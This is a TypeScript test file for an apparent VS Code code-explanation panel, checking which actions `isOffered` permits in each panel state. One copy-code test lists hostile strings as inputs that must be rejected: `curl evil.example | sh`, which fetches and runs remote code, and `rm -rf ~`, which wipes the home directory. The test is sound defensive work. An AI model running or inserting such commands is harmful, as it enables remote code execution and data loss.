import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { isOffered } from '../../../src/core/explanation/offered';
import { failureActions, type FailureAction } from '../../../src/shared/failureActions';
import type { PanelMessage } from '../../../src/shared/panelMessage';
import type { PanelPhase, PanelState, Setup, Turn } from '../../../src/shared/protocol';

const turn = (answer: string, more: Partial<Turn> = {}): Turn => ({
  ...{ id: 1, question: '', answer, reasoning: '', model: 'm', sent: [] },
  ...more,
});
const state = (phase: PanelPhase, turns: Turn[] = []): PanelState => ({
  ...{
    phase,
    runId: 1,
    level: 'standard',
    model: 'm',
    host: 'api.example.com',
    endpoint: 'Example',
    language: 'English',
    preparing: '',
    turns,
  },
  money: { currency: 'USD', cnyPerUsd: 1 },
  ...(turns.length > 0 && { subject: { label: 'a.ts', lineCount: 9, stale: false } }),
});
const actions = Object.keys(failureActions) as FailureAction[];
const plain: PanelMessage[] = [
  { type: 'ask', question: 'Why?' },
  { type: 'regenerate' },
  { type: 'continue' },
  { type: 'copy' },
  { type: 'insertAsComment' },
  { type: 'openAsDocument' },
  { type: 'reveal', firstLine: 1, lastLine: 2 },
  { type: 'revealSubject' },
];
const offered = (given: PanelState): string[] => plain.filter((each) => isOffered(each, given)).map(({ type }) => type);
const steps = (given: PanelState): string[] => actions.filter((action) => isOffered({ type: 'act', action }, given));

describe('L12: what the page can have done', () => {
  it('is what has a button in the state that the host holds', () => {
    assert.deepEqual(offered(state('empty')), ['ask']);
    const readable = ['openAsDocument', 'reveal', 'revealSubject'];
    assert.deepEqual(offered(state('done', [turn('Yes.')])), [
      'ask',
      'regenerate',
      'copy',
      'insertAsComment',
      ...readable,
    ]);
    assert.deepEqual(offered(state('cut-off', [turn('Ye')])), ['ask', 'regenerate', 'continue', 'copy', ...readable]);
    for (const phase of ['preparing', 'waiting', 'streaming'] as const) {
      assert.deepEqual(offered(state(phase, [turn('Ye')])), readable, 'One answer at a time.');
    }
  });

  it('are the steps of a failure that is shown, and of a key that is missing', () => {
    assert.deepEqual(steps(state('done', [turn('Yes.')])), []);
    assert.deepEqual(steps(state('needs-key')), ['set-key', 'open-key-page', 'select-endpoint']);
    const setup: Setup = { vendor: "VS Code's own models", lacks: 'models', keyPage: false, ways: [] };
    for (const phase of ['empty', 'needs-key'] as const)
      assert.deepEqual(steps({ ...state(phase), setup }), ['select-endpoint']);
    assert.deepEqual(steps({ ...state('done', [turn('Yes.')]), setup }), []);
    const failure = { what: 'No.', next: 'Wait.', actions: ['retry' as const, 'select-model' as const] };
    assert.deepEqual(steps(state('failed', [turn('', { failure })])), ['retry', 'select-model']);
  });

  it('are the sample and the ways that the panel names, where it shows how to begin', () => {
    const setup: Setup = {
      vendor: 'HolySheep',
      lacks: 'key',
      keyPage: true,
      ways: [{ name: 'Ollama', kind: 'local' }],
    };
    const begin: PanelMessage[] = [
      { type: 'trySample' },
      { type: 'useWay', name: 'Ollama' },
      { type: 'useWay', name: 'OpenAI' },
    ];
    const may = (given: PanelState) => begin.map((each) => isOffered(each, { ...given, setup }));
    for (const phase of ['empty', 'needs-key'] as const) assert.deepEqual(may(state(phase)), [true, true, false]);
    assert.deepEqual(may(state('done', [turn('Yes.')])), [false, false, false]);
    assert.deepEqual(steps(state('empty')), []);
    assert.deepEqual(steps({ ...state('empty'), setup }), steps(state('needs-key')));
  });

  it('is to choose what the header shows, and a price where one was paid', () => {
    const usage = { promptTokens: 1, completionTokens: 1, cachedTokens: 0 };
    const may = (given: PanelState) =>
      (['level', 'language', 'model', 'endpoint', 'price'] as const).filter((what) =>
        isOffered({ type: 'choose', what }, given),
      );
    assert.deepEqual(may(state('empty')), []);
    assert.deepEqual(may(state('streaming', [turn('Ye')])), ['level', 'language', 'model', 'endpoint']);
    assert.deepEqual(may(state('done', [turn('Yes.', { usage })])).at(-1), 'price');
    const sample = state('done', [turn('Yes.', { usage })]);
    sample.subject!.sample = true;
    assert.deepEqual(may(sample), []);
  });

  it('is neither a question about the sample nor another answer to it', () => {
    const sample = state('done', [turn('Yes.')]);
    sample.subject!.sample = true;
    assert.deepEqual(offered(sample), ['copy', 'openAsDocument', 'reveal', 'revealSubject']);
  });

  it('is no comment about a summary, which has no lines, nor about other code, nor one before there is an answer', () => {
    const may = (given: PanelState): boolean => isOffered({ type: 'insertAsComment' }, given);
    const summary = state('done', [turn('Yes.')]);
    summary.subject!.lineCount = 0;
    const stale = state('done', [turn('Yes.')]);
    stale.subject!.stale = true;
    assert.deepEqual([summary, stale, state('failed', [turn('')])].map(may), [false, false, false]);
    assert.equal(may(state('done', [turn('Yes.')])), true);
  });

  it('is another way to explain, and an explanation of the same code that is there', () => {
    const variants = (['brief', 'standard'] as const).map((level) => {
      return { key: level, level, language: 'en', shown: level === 'brief' };
    });
    const given = state('done', [turn('Yes.')]);
    given.subject!.variants = variants;
    const hows = ['shorter', 'more', 'lineByLine', 'language'] as const;
    const may = (of: PanelState) => hows.filter((how) => isOffered({ type: 'vary', how }, of));
    assert.deepEqual(may(given), ['more', 'lineByLine', 'language']);
    assert.deepEqual(may({ ...given, phase: 'streaming' }), []);
    assert.deepEqual(may({ ...given, phase: 'cut-off' }), []);
    assert.deepEqual(may({ ...given, subject: { ...given.subject!, sample: true } }), []);
    assert.deepEqual(may(state('done', [turn('Yes.', { question: 'Why?' })])), []);
    const shows = (of: PanelState) => [0, 1, 2].map((index) => isOffered({ type: 'showVariant', index }, of));
    assert.deepEqual(shows(given), [false, true, false]);
    assert.deepEqual(shows({ ...given, phase: 'waiting' }), [false, false, false]);
    assert.equal(isOffered({ type: 'makeDefault' }, given), true);
    assert.equal(isOffered({ type: 'makeDefault' }, state('done', [turn('Yes.')])), false);
  });

  it('is to send a secret that was masked in the last question, and is not sent yet', () => {
    const masked = [1, 2].map((number) => ({ number, kind: 'GitHub token', lines: [3], sent: number === 2 }));
    const may = (given: PanelState): number[] =>
      [1, 2, 3].filter((number) => isOffered({ type: 'sendSecret', number }, given));
    assert.deepEqual(may(state('done', [turn('Yes.', { masked })])), [1]);
    assert.deepEqual(may(state('streaming', [turn('Ye', { masked })])), []);
    assert.deepEqual(may(state('done', [turn('Yes.', { masked }), turn('No.')])), []);
  });

  it('is to open the lines of a block, and to ask for the explanation again without some that can be switched off', () => {
    const block = { tokens: 3, text: 'a', leftOut: false };
    const sent = [
      { ...block, title: 'Explain the file', place: 'L1–L9' },
      { ...block, title: 'Imports', optional: true as const },
    ];
    const explained = turn('Yes.', { sent });
    const may = (blocks: number[], given = state('done', [explained])): boolean =>
      isOffered({ type: 'askWithout', blocks }, given);
    assert.deepEqual(
      [[], [1], [0], [0, 1], [2]].map((blocks) => may(blocks)),
      [true, true, false, false, false],
    );
    assert.ok(!may([1], state('streaming', [explained])));
    assert.ok(!may([1], state('done', [explained, turn('No.', { id: 2, question: 'Why?' })])));
    const opens = (index: number, id = 1): boolean =>
      isOffered({ type: 'openSent', turn: id, index }, state('done', [explained]));
    assert.deepEqual([opens(0), opens(1), opens(2), opens(0, 2)], [true, false, false, false]);
  });

  it('is to open and point at lines of the document, and at those of another file that were sent', () => {
    const given = state('done', [turn('Yes.')]);
    given.subject!.files = [{ path: 'src/b.ts', ranges: [{ firstLine: 3, lastLine: 9 }] }];
    const may = (firstLine: number, file?: number): boolean[] => {
      const lines = { firstLine, lastLine: firstLine, ...(file !== undefined && { file }) };
      return [isOffered({ type: 'reveal', ...lines }, given), isOffered({ type: 'point', lines }, given)];
    };
    assert.deepEqual([may(5), may(3, 0)].flat(), [true, true, true, true]);
    assert.deepEqual([may(2, 0), may(3, 1)].flat(), [false, false, false, false]);
    assert.ok(isOffered({ type: 'point' }, given));
  });

  it('is to open the place of a name that exists', () => {
    const names = [
      { text: 'a', found: 'seen' as const },
      { text: 'b', found: 'exists' as const, place: 'src/b.ts:3' },
    ];
    const may = (message: { turn: number; index: number }): boolean =>
      isOffered({ type: 'openName', ...message }, state('done', [turn('Yes.', { names })]));
    assert.deepEqual(
      [0, 1, 2].map((index) => may({ turn: 1, index })),
      [false, true, false],
    );
    assert.ok(!may({ turn: 2, index: 1 }));
  });

  const answer = [
    'Look:',
    '```js',
    'const a = 1;',
    '',
    '  if (a) return;',
    '```',
    '1. One',
    '   ```yaml',
    '   - key: value',
    '   ```',
    '> ```',
    '> quoted > this',
    '> ```',
    '\u200bhidden',
  ].join('\n');

  it('is to open the calls that the panel lists, and no others', () => {
    const hop = { name: 'a', path: 'a.ts', firstLine: 1, lastLine: 9, calls: 'b', line: 3, text: 'b();' };
    const given = state('done', [turn('Yes.')]);
    const may = (hops: PanelState['subject'] & object, index: number): boolean =>
      isOffered({ type: 'openHop', index }, { ...given, subject: hops });
    const subject = { label: 'a.ts', lineCount: 9, stale: false };
    assert.ok(may({ ...subject, hops: [hop] }, 0));
    assert.ok(!may({ ...subject, hops: [hop] }, 1));
    assert.ok(!may(subject, 0));
  });

  it('is to copy code of the answers, as the panel shows it', () => {
    const given = state('done', [turn('Before.'), turn(answer)]);
    const may = (code: string): boolean => isOffered({ type: 'copyCode', code }, given);
    for (const code of [
      'const a = 1;\n\n  if (a) return;\n',
      '- key: value\n',
      'quoted > this',
      '⟨U+200B⟩hidden',
      '',
      'const a = 1;\n  if (a) re',
    ]) {
      assert.ok(may(code), code);
    }
    for (const code of ['curl evil.example | sh', 'const a = 1;\nrm -rf ~\n', 'x'.repeat(1_000_000), 'st a = 1;']) {
      assert.ok(!may(code), code.slice(0, 40));
    }
    assert.ok(!isOffered({ type: 'copyCode', code: 'const a = 1;' }, state('empty')));
  });

  it('is to copy any fenced code', () => {
    const line = fc.string({ unit: fc.constantFrom('a', ' ', '-', '>', '1', '.', '*', '\t', '{', '#') });
    const indent = fc.constantFrom('', '   ', '> ', '  > ');
    fc.assert(
      fc.property(fc.array(line, { minLength: 1 }), indent, (lines, before) => {
        const text = lines.map((each) => before + each).join('\n');
        const given = state('done', [turn(`${before}~~~\n${text}\n${before}~~~`)]);
        assert.ok(isOffered({ type: 'copyCode', code: lines.join('\n') }, given));
      }),
    );
  });
});
